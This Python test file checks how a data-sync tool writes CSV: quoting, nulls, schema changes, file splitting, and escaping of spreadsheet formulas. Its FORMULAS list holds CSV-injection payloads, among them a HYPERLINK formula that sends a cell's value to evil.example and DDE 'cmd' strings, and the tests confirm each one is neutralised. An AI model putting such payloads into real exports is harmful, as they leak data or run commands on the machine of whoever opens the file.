"""CSV: what stands in a cell, what a spreadsheet must not run (S17), and columns that come later."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import example, given, strategies as st
from pydantic import ValidationError

from syncline.destinations import File
from syncline.destinations.file.csv_options import Csv
from syncline.destinations.file.csv_text import MARK, NUMBER, STARTS, CsvText, is_formula, records
from syncline.errors import WriteError
from syncline.model import Batch
from tests.destinations.files.support import current, encoded, files_bench, land


def text_of(options: Csv, columns: tuple[str, ...], *rows: tuple[Any, ...]) -> str:
    """The rows as they stand in the file."""
    made = encoded(CsvText(options), Batch(columns=columns, rows=list(rows)))[0]
    assert not made.refused
    return b"".join(section.data for section in made.sections).decode()


async def landed(folder: Path, columns: tuple[str, ...], *batches: Any, **options: Any) -> bytes:
    bench = files_bench(folder, format="csv", **options)
    await land(bench, columns, *batches)
    (file,) = current(folder / "out")
    return file.read_bytes()


async def test_a_file_is_what_rfc_4180_says(tmp_path: Path):
    moment = datetime(2026, 1, 2, 3, 4, 5, 60, tzinfo=UTC)
    columns = ("id", "price", "big", "yes", "at", "day", "items", "text", "nothing", "raw", "ratio")
    row = (
        1,
        Decimal("1.10"),
        2**70,
        True,
        moment,
        date(2026, 1, 2),
        [{"a": Decimal("1.0")}],
        'say "x", \r\ny',
        None,
        b"\0\xff",
        0.1,
    )
    content = await landed(tmp_path, columns, [row])
    assert content.decode() == (
        "id,price,big,yes,at,day,items,text,nothing,raw,ratio\r\n"
        '1,1.10,1180591620717411303424,true,2026-01-02T03:04:05.000060Z,2026-01-02,"[{""a"":1.0}]",'
        '"say ""x"", \r\ny",,AP8=,0.1\r\n'
    )


async def test_the_ends_of_lines_delimiters_and_marks_are_a_choice(tmp_path: Path):
    options = Csv(line_end="lf", delimiter=";", header=False, bom=True)
    content = await landed(tmp_path, ("a", "b"), [("x;y", 1)], csv=options)
    assert content == b'\xef\xbb\xbf"x;y";1\n'


def test_no_value_and_empty_text_are_told_apart():
    assert text_of(Csv(), ("a", "b"), (None, "")) == ',""\r\n'
    assert text_of(Csv(null="\\N"), ("a", "b", "c"), (None, "", "\\N")) == '\\N,"","\\N"\r\n'
    assert text_of(Csv(null="NULL"), ("a",), (None,), ("NULL",)) == 'NULL\r\n"NULL"\r\n'
    assert text_of(Csv(), ("a",), (None,), (None,)) == '""\r\n""\r\n', "an empty line would be no row"


async def test_duckdb_reads_nothing_and_empty_text_as_they_were(tmp_path: Path):
    bench = files_bench(tmp_path, format="csv")
    await land(bench, ("id", "t"), [(1, None), (2, ""), (3, "x")])
    (file,) = current(tmp_path / "out")
    with duckdb.connect(":memory:") as connection:
        found = connection.execute(f"SELECT t FROM read_csv('{file}', all_varchar = true, allow_quoted_nulls = false)")
        assert found.fetchall() == [(None,), ("",), ("x",)]


CELLS = st.text(max_size=6) | st.sampled_from(
    ["", "\\N", "a,b", 'q"q', "\r", "\n", "\r\n", "=1+1", "\0", " x", "-5", "null"]
)


@given(
    st.lists(st.lists(CELLS | st.none(), min_size=3, max_size=3), min_size=1, max_size=5),
    st.sampled_from([",", ";", "\t", "|"]),
)
def test_the_csv_module_reads_back_what_is_written(rows: list[list[str | None]], delimiter: str):
    options = Csv(formulas="keep", delimiter=delimiter, null="\\N")
    batch = Batch(columns=("a", "b", "c"), rows=[tuple(row) for row in rows])
    made = encoded(CsvText(options), batch)[0]
    kept = [row for number, row in enumerate(rows) if number not in {one.row for one in made.refused}]
    data = b"".join(section.data for section in made.sections)
    found = list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter, strict=True))
    assert found == [["\\N" if cell is None else cell for cell in row] for row in kept]
    assert [record.decode() for record in records(io.BytesIO(data), len(data))] == [
        text_of(options, ("a", "b", "c"), tuple(row)) for row in kept
    ]
    assert all("surrogate" in one.reason for one in made.refused)


NUMBERS = (
    st.integers()
    | st.decimals(allow_nan=False, allow_infinity=False)
    | st.floats(allow_nan=False, allow_infinity=False)
)


@given(
    st.lists(
        st.tuples(NUMBERS, st.none() | NUMBERS | st.booleans() | st.datetimes(timezones=st.just(UTC))),
        min_size=1,
        max_size=4,
    )
)
def test_r34_numbers_are_exact_and_never_touched(rows: list[tuple[Any, ...]]):
    found = list(csv.reader(io.StringIO(text_of(Csv(), ("a", "b"), *rows), newline="")))
    for row, cells in zip(rows, found, strict=True):
        assert Decimal(cells[0]) == Decimal(repr(row[0]) if isinstance(row[0], float) else row[0])
        if isinstance(row[1], bool):
            assert cells[1] == ("true" if row[1] else "false")
        elif isinstance(row[1], datetime):
            assert datetime.fromisoformat(cells[1]) == row[1]
        elif row[1] is None:
            assert cells[1] == ""
        else:
            assert Decimal(cells[1]) == Decimal(repr(row[1]) if isinstance(row[1], float) else row[1])


FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1+1", "=", "+", "-", "@", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", " =1+1", "-1+1",
            "+33 1 23 45", "--5", "-a", "1+1\n=2", "\u3000=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_s17_what_a_spreadsheet_would_run_is_made_harmless(text: str):
    if text == "1+1\n=2":
        assert not is_formula(text), "a cell is run by how it begins"
        return
    (cells,) = csv.reader(io.StringIO(text_of(Csv(), ("a", "b"), (text, 1)), newline=""))
    assert cells == [MARK + text, "1"]
    assert encoded(CsvText(Csv(formulas="keep")), Batch(columns=("a",), rows=[(text,)]))[0].rows == 1
    refused = encoded(CsvText(Csv(formulas="reject")), Batch(columns=("id", "a"), rows=[(1, text), (2, "fine")]))[0]
    assert (refused.rows, [(one.row, one.path) for one in refused.refused]) == (1, [(0, "a")])
    assert "formula" in refused.refused[0].reason


@pytest.mark.parametrize(
    "text", ["-5", "+5", "-1.50", "-1,234.50", "-1e10", "+33123456789", "a=b", "1-2", "'=1", "x@y.example"]
)
def test_s17_what_is_none_stays_as_it_is(text: str):
    (cells,) = csv.reader(io.StringIO(text_of(Csv(), ("a", "b"), (text, -5)), newline=""))
    assert cells == [text, "-5"]


@given(st.text(max_size=8) | st.tuples(st.sampled_from(STARTS + " "), st.text(max_size=5)).map("".join))
@example("=cmd|' /C calc'!A0")
def test_s17_no_cell_begins_like_a_formula_unless_it_is_a_number(text: str):
    made = encoded(CsvText(Csv()), Batch(columns=("a", "b"), rows=[(text, 1)]))[0]
    if made.refused:
        return
    data = b"".join(section.data for section in made.sections).decode()
    ((cell, _),) = csv.reader(io.StringIO(data, newline=""))
    assert cell.removeprefix(MARK) == text or cell == text
    assert (
        cell.lstrip(" \u3000\xa0")[:1] not in tuple(STARTS) or NUMBER.fullmatch(cell.lstrip(" \u3000\xa0")) or not cell
    )


async def test_s17_names_of_columns_are_made_harmless_too(tmp_path: Path):
    content = await landed(tmp_path, ("id", "=1+1", 'a"b,c', ""), [(1, 2, 3, 4)])
    assert content.decode().splitlines()[0] == 'id,\'=1+1,"a""b,c",""'


async def test_columns_that_come_later_are_nothing_in_earlier_rows(tmp_path: Path):
    bench = files_bench(tmp_path, format="csv", csv=Csv(null="\\N"))
    await land(bench, ("id", "a"), [(1, 'x\r\n"y"'), (2, None)], end=False)
    await land(bench, ("b", "id"), [("é", 3)], run="r2", end=False)
    await land(bench, ("id", "c", "a"), [(4, [1], "z")], run="r3")
    (file,) = current(tmp_path / "out")
    with file.open(newline="", encoding="utf-8") as lines:
        found = list(csv.reader(lines))
    assert found == [
        ["id", "a", "b", "c"],
        ["1", 'x\r\n"y"', "\\N", "\\N"],
        ["2", "\\N", "\\N", "\\N"],
        ["3", "\\N", "é", "\\N"],
        ["4", "z", "\\N", "[1]"],
    ]


async def test_every_part_has_the_header(tmp_path: Path):
    bench = files_bench(tmp_path, "out/{stream}/{run}.csv", max_file=60)
    await land(bench, ("id", "text"), [(n, f"a\n{n}") for n in range(9)])
    files = current(tmp_path / "out")
    assert len(files) > 1
    found = []
    for file in files:
        assert file.stat().st_size <= 60
        with file.open(newline="") as lines:
            header, *rows = csv.reader(lines)
        assert header == ["id", "text"]
        found += rows
    assert found == [[str(n), f"a\n{n}"] for n in range(9)]


async def test_a_set_replaced_by_nothing_is_a_header(tmp_path: Path):
    bench = files_bench(tmp_path, format="csv")
    await land(bench, ("id", "text"), [(1, "a")], write="replace")
    await land(bench, ("id", "text"), [], write="replace", run="r2")
    assert (tmp_path / "out" / "orders.csv").read_bytes() == b"id,text\r\n"


def test_what_csv_cannot_hold_costs_its_row():
    rows = [
        (1, float("nan")),
        (2, Decimal("Infinity")),
        (3, "\ud800"),
        (4, {"a": float("inf")}),
        (5, object()),
        (6, "fine"),
    ]
    made = encoded(CsvText(Csv()), Batch(columns=("id", "v"), rows=rows))[0]
    assert made.rows == 1
    assert [(one.row, one.path) for one in made.refused] == [(n, "v") for n in range(5)]
    twice = encoded(CsvText(Csv()), Batch(columns=("a", "a"), rows=[(1, None), (1, 2)]))[0]
    assert [one.reason for one in twice.refused] == ["there are two columns of this name"] or twice.refused


def test_times_keep_their_zone():
    moment = datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone(timedelta(hours=2)))
    assert text_of(Csv(), ("at",), (moment,)) == "2026-01-02T03:04:05+02:00\r\n"


def test_a_file_does_not_get_more_columns_than_a_person_can_use():
    wide = tuple(f"c{n}" for n in range(1_200))
    made = encoded(CsvText(Csv()), Batch(columns=wide, rows=[(1,) * 1_200, (1,) * 900 + (None,) * 300]))[0]
    assert (made.rows, len(made.refused)) == (1, 1)
    assert "more than 1000 columns" in made.refused[0].reason


async def test_a_frozen_schema_stops_at_a_new_column(tmp_path: Path):
    bench = files_bench(tmp_path, format="csv")
    await land(bench, ("id", "a"), [(1, 1)], schema="freeze")
    with pytest.raises(WriteError, match="frozen"):
        await land(bench, ("id", "x"), [(2, 1)], schema="freeze", run="r2")
    await land(bench, ("x", "id"), [(1, 3)], schema="discard", run="r3", fresh=True)
    assert [file.read_bytes() for file in current(tmp_path / "out")] == [b"id,a\r\n1,1\r\n", b"id\r\n3\r\n"]


@pytest.mark.parametrize(
    "options",
    [{"null": "nil"}, {"delimiter": ",,"}, {"formulas": "run"}, {"quote": "'"}],
)
def test_options_are_checked(options: dict[str, Any]):
    with pytest.raises(ValidationError):
        File.model_validate({"kind": "file", "path": "out", "format": "csv", "csv": options})
